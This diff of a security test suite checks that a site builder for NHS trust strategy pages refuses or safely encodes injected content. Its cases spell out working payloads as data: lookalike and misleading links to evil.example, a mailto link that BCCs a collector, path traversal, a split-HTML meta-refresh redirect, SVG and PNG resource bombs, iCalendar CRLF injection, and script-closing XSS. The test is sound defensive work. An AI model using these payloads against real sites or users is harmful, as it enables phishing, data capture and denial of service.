@@ -16,12 +16,21 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { promisify } from 'node:util';
-import { markdownToHtml, mdxToJs } from 'satteri';
+import { fromHtml } from 'hast-util-from-html';
+import ICAL from 'ical.js';
+import { markdownToHtml, markdownToMdast, mdxToJs } from 'satteri';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { checkContent } from '../../src/checks/check-content.ts';
 import { splitFrontMatter } from '../../src/reader/source-text.ts';
 import type { Problem } from '../../src/checks/problem.ts';
 import { REFUSED_CONTENT_MARKER, refuseUnsafeContent } from '../../src/markdown/refuse-unsafe-content.ts';
+import { eventCalendar, type CalendarOwner } from '../../src/site/event-calendar.ts';
+import { hostHeaderFiles } from '../../src/site/security-headers.ts';
+import { eventData, jsonLdText } from '../../src/site/structured-data.ts';
+import { trustEvents, type EngagementEvent } from '../../src/site/trust-events.ts';
+import { markdownReport } from '../../scripts/check/markdown-report.ts';
+import { indexHtml } from '../../scripts/editor/editor-site.ts';
+import { nginxConfig } from '../../scripts/hosting/nginx-config.ts';
 import { repoRoot, runBuild } from '../support/built-sites.ts';
 
 interface Case {
@@ -31,6 +40,8 @@ interface Case {
   rule: string;
   /** The change, made to a copy of Harbourside. */
   breaks: (dir: string) => void;
+  /** Refused by the check only: a link to a file that is not there harms no one if the check is skipped. */
+  checkOnly?: true;
 }
 
 const work = mkdtempSync(path.join(tmpdir(), 'strategy-injection-'));
@@ -52,6 +63,16 @@ const put = (file: string, content: string | Buffer) => (dir: string) => {
   mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
   writeFileSync(path.join(dir, file), content);
 };
+
+/** The start of a PNG file: its signature and a header chunk declaring the size (no picture follows). */
+function pngHeader(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 6, 0, 0, 0], 8);
+  const chunk = Buffer.concat([Buffer.from([0, 0, 0, 13]), Buffer.from('IHDR'), header, Buffer.alloc(4)]);
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk]);
+}
 
 const cases: Case[] = [
   // Code in MDX: expressions, at build time
@@ -118,6 +139,52 @@ const cases: Case[] = [
   { name: 'vbscript: link', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Open](vbscript:msgbox(1))') },
   { name: 'data: picture', file: 'vision.md', rule: 'unsafe-link', breaks: md('![A chart](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)') },
 
+  // Links whose words or characters say something other than where they lead
+  {
+    name: 'link words showing one address, leading to another',
+    file: 'vision.md',
+    rule: 'misleading-link',
+    breaks: md('Read more at [www.nhs.uk](https://nhs-uk.evil.example/login).'),
+  },
+  {
+    name: 'reference link words showing one address, leading to another',
+    file: 'vision.md',
+    rule: 'misleading-link',
+    breaks: md('See [https://harbourside.example/][site].\n\n[site]: https://evil.example/'),
+  },
+  {
+    name: 'look-alike domain',
+    file: 'vision.md',
+    rule: 'lookalike-domain',
+    breaks: md('Visit [the NHS website](https://www.nh\u0455.uk/).'),
+  },
+  {
+    name: 'email link that copies the message elsewhere',
+    file: 'vision.md',
+    rule: 'mailto-settings',
+    breaks: md('[Email us](mailto:strategy@harbourside.example?bcc=collector@evil.example&body=My%20NHS%20number%20is)'),
+  },
+  {
+    name: 'heading turned round by a direction override',
+    file: 'vision.md',
+    rule: 'hidden-characters',
+    breaks: md('## Download the plan \u202Efdp.exe'),
+  },
+  {
+    name: 'file link that climbs out of the folder once decoded',
+    file: 'vision.md',
+    rule: 'missing-file',
+    checkOnly: true,
+    breaks: md('[Our report](../files/..%2f..%2f..%2f..%2f..%2fetc%2fhostname)'),
+  },
+  {
+    name: 'malformed percent escape in a picture path',
+    file: 'vision.md',
+    rule: 'picture-path',
+    checkOnly: true,
+    breaks: md('![A chart](files/pictures/%E0%A4%A.png)'),
+  },
+
   // Raw HTML in Markdown
   {
     name: 'javascript: with a tab, in HTML',
@@ -161,6 +228,48 @@ const cases: Case[] = [
   },
   { name: 'script', file: 'vision.md', rule: 'unsafe-html', breaks: md('<script>alert(1)</script>') },
 
+  // Raw HTML whose pieces are harmless alone but not together: an open quote in one piece swallows the
+  // Markdown after it, and a title in the next piece closes it, leaving a live redirect between them.
+  {
+    name: 'two pieces of HTML that make a redirect together',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md(
+      `<p title="\n\nWe listened to everyone.\n\n<p title='"><meta http-equiv=refresh content="0;url=https://evil.example/">'>Read more</p>`,
+    ),
+  },
+
+  // Pages shaped to stall the check or the build
+  {
+    name: 'quotes nested thousands deep',
+    file: 'vision.md',
+    rule: 'nesting-depth',
+    // The parser itself is what would stall, before any plugin runs: the check refuses the page first.
+    checkOnly: true,
+    breaks: md('> '.repeat(5000)),
+  },
+  { name: 'thousands of pieces of HTML', file: 'vision.md', rule: 'unsafe-html', breaks: md('<b>x</b>\n\n'.repeat(1000)) },
+
+  // The trust's address: the base path of every link and part of every host configuration
+  {
+    name: 'address whose folder starts with a second slash (every menu link to another host)',
+    file: 'trust.yaml',
+    rule: 'invalid-field',
+    breaks: edit('trust.yaml', /^url: .*$/m, 'url: https://harbourside.example//evil.example/'),
+  },
+  {
+    name: 'address with replacement patterns and nginx syntax',
+    file: 'trust.yaml',
+    rule: 'invalid-field',
+    breaks: edit('trust.yaml', /^url: .*$/m, 'url: "https://harbourside.example/$&;return/"'),
+  },
+  {
+    name: 'address inside another trust',
+    file: 'trust.yaml',
+    rule: 'address-clash',
+    breaks: edit('trust.yaml', /^url: .*$/m, 'url: https://case-01.example/nested/'),
+  },
+
   // Settings that would make the check or the build run unbounded
   {
     name: 'YAML alias bomb',
@@ -203,6 +312,43 @@ const cases: Case[] = [
     ),
   },
   {
+    name: 'PNG that declares an enormous bitmap',
+    file: 'files/pictures/huge.png',
+    rule: 'picture-size',
+    breaks: put('files/pictures/huge.png', pngHeader(100_000, 100_000)),
+  },
+  {
+    name: 'SVG with a blur that takes minutes to draw',
+    file: 'files/pictures/blur.svg',
+    rule: 'unsafe-svg',
+    breaks: put(
+      'files/pictures/blur.svg',
+      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><filter id="f"><feGaussianBlur stdDeviation="100000"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>',
+    ),
+  },
+  {
+    name: 'SVG whose copies double at every level',
+    file: 'files/pictures/copies.svg',
+    rule: 'unsafe-svg',
+    breaks: put(
+      'files/pictures/copies.svg',
+      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><rect id="l0" width="1" height="1"/>${Array.from(
+        { length: 30 },
+        (_, level) => `<g id="l${level + 1}">${'<use href="#l' + level + '"/>'.repeat(10)}</g>`,
+      ).join('')}</defs><use href="#l30"/></svg>`,
+    ),
+  },
+  {
+    name: 'list longer than any page shows',
+    file: 'trust.yaml',
+    rule: 'invalid-field',
+    breaks: edit(
+      'trust.yaml',
+      '  knownIssues:\n',
+      `  knownIssues:\n${Array.from({ length: 101 }, (_, n) => `    - issue: Problem ${n + 1}\n`).join('')}`,
+    ),
+  },
+  {
     name: 'symbolic link out of the repository',
     file: 'files/secret.txt',
     rule: 'file-link',
@@ -231,6 +377,8 @@ beforeAll(async () => {
     const dir = path.join(fleet, slugOf(index));
     cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
     edit('trust.yaml', /^slug: .*$/m, `slug: ${slugOf(index)}`)(dir);
+    // Each copy has its own address, as every trust must; a case may then change it.
+    edit('trust.yaml', /^url: .*$/m, `url: https://${slugOf(index)}.example/`)(dir);
     testCase.breaks(dir);
   });
   // A whole trust folder that is a link to another trust's content, somewhere outside.
@@ -262,13 +410,13 @@ describe('the injection corpus', () => {
     const match = problems.find((problem) => problem.file === file && problem.rule === testCase.rule);
     expect(match, `expected ${testCase.rule} in ${file}; got ${JSON.stringify(problems, null, 1)}`).toBeDefined();
     expect(match!.severity).toBe('error');
-    expect(match!.message).toMatch(/remove|write|rename|delete|replace|use|save|shorten|link to|export/i);
+    expect(match!.message).toMatch(/remove|write|rename|delete|replace|use|save|shorten|link to|export|add the|correct/i);
     if (testCase.file.endsWith('.md') || testCase.file.endsWith('.mdx')) expect(match!.line).toBeGreaterThan(5);
   });
 
   const pageCases = cases
     .map((testCase, index) => [testCase.name, testCase, index] as const)
-    .filter(([, testCase]) => /\.mdx?$/.test(testCase.file));
+    .filter(([, testCase]) => /\.mdx?$/.test(testCase.file) && !testCase.checkOnly);
 
   it.each(pageCases)("the build's Markdown pipeline refuses, with no check: %s", (_name, testCase, index) => {
     const absolute = path.join(fleet, slugOf(index), testCase.file);
@@ -334,5 +482,110 @@ describe('the injection corpus', () => {
       expect(output).not.toContain('built');
     }
     expect(existsSync(canary)).toBe(false);
+  });
+});
+
+/**
+ * Values that are fine as text but reach formats other than HTML: they are not refused, they are
+ * encoded for each format, and each output read back with its own parser holds nothing else.
+ * (tests/security/output-encoders.test.ts feeds the same encoders 500 random values per field.)
+ */
+describe('the injection corpus: values encoded for every other format', () => {
+  const day = new Date('2027-01-20T00:00:00Z');
+  const calendarFor = (name: string, event: Partial<EngagementEvent>) => {
+    const owner: CalendarOwner = {
+      slug: 'harbourside',
+      origin: 'https://harbourside.example',
+      settings: { name, shortName: 'Harbourside', contact: { email: 'strategy@harbourside.example' } },
+      href: (pagePath) => `/our-strategy/${pagePath}`,
+    };
+    const events = [{ title: 'Drop-in', date: day, format: 'in-person', start: '18:00', ...event } as EngagementEvent];
+    const [item] = trustEvents(
+      [{ pagePath: 'have-your-say/', entry: { data: { type: 'engagement', title: 'Have your say', events } as never } }],
+      new Date('2026-01-01T00:00:00Z'),
+    );
+    return new ICAL.Component(ICAL.parse(eventCalendar(owner, item!, day)));
+  };
+
+  it('iCalendar: a lone carriage return in an event title adds no attachment', () => {
+    const calendar = calendarFor('Harbourside Hospitals', { title: 'Drop-in\rATTACH:https://evil.example/invite.exe' });
+    const [event] = calendar.getAllSubcomponents('vevent');
+    expect(event!.getAllProperties('attach')).toEqual([]);
+    expect(event!.getFirstPropertyValue('summary')).toBe('Drop-in\nATTACH:https://evil.example/invite.exe');
+  });
+
+  it("iCalendar: line breaks and quotes in the trust's name add no second event", () => {
+    const calendar = calendarFor('Harbourside"\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Clinic closed', {});
+    expect(calendar.getAllSubcomponents('vevent')).toHaveLength(1);
+  });
+
+  it('the pull request report: a link, a picture and a mention in a message stay as words', () => {
+    const report = markdownReport(
+      [
+        {
+          file: 'content/x/goals.md',
+          line: 9,
+          rule: 'unsafe-link',
+          severity: 'error',
+          message: 'Fix [this](https://evil.example/) ![](https://evil.example/t.png) @octocat <img src=x>',
+        },
+      ],
+      [],
+    );
+    const tree = markdownToMdast(report, { features: { gfm: true } });
+    const kinds = new Set<string>();
+    const stack: Array<{ type: string; children?: unknown[] }> = [tree as never];
+    while (stack.length > 0) {
+      const node = stack.pop()!;
+      kinds.add(node.type);
+      stack.push(...((node.children ?? []) as never[]));
+    }
+    expect([...kinds].filter((kind) => ['link', 'image', 'html'].includes(kind))).toEqual([]);
+    expect(report).toContain('@octocat');
+  });
+
+  it("the editor's page: a trust name that closes the title runs no script", () => {
+    const page = fromHtml(indexHtml('Harbourside</title><script>alert(document.cookie)</script>'));
+    const scripts: string[] = [];
+    const stack = [page as unknown as { type: string; tagName?: string; properties?: { src?: string }; children?: unknown[] }];
+    while (stack.length > 0) {
+      const node = stack.pop()!;
+      if (node.tagName === 'script') scripts.push(String(node.properties?.src ?? 'inline'));
+      stack.push(...((node.children ?? []) as never[]));
+    }
+    expect(scripts.sort()).toEqual(['decap-cms.js', 'editor-extensions.js']);
+  });
+
+  it('JSON-LD: a place that closes the script stays inside the data', () => {
+    const [item] = trustEvents(
+      [
+        {
+          pagePath: 'have-your-say/',
+          entry: {
+            data: {
+              type: 'engagement',
+              title: 'x',
+              events: [{ title: 'Drop-in', date: day, format: 'in-person', place: '</script><script>alert(1)</script>' }],
+            } as never,
+          },
+        },
+      ],
+      new Date('2026-01-01T00:00:00Z'),
+    );
+    const owner = {
+      origin: 'https://harbourside.example',
+      settings: { name: 'Harbourside', url: 'https://harbourside.example/', contact: { email: 'a@harbourside.example' } },
+      href: (p: string) => `/${p}`,
+    };
+    const text = jsonLdText([eventData(owner, item!)]);
+    expect(text).not.toMatch(/<\/?script/i);
+    expect(JSON.parse(text).location.name).toBe('</script><script>alert(1)</script>');
+  });
+
+  it('host configurations: an address the settings check refuses is never written into one', () => {
+    expect(() =>
+      nginxConfig({ slug: 'harbourside', url: 'https://harbourside.example/a;return 301 https:/', docRoot: '/var/www' }),
+    ).toThrow(/url/);
+    expect(() => hostHeaderFiles('/a b/')).toThrow(/base path/);
   });
 });
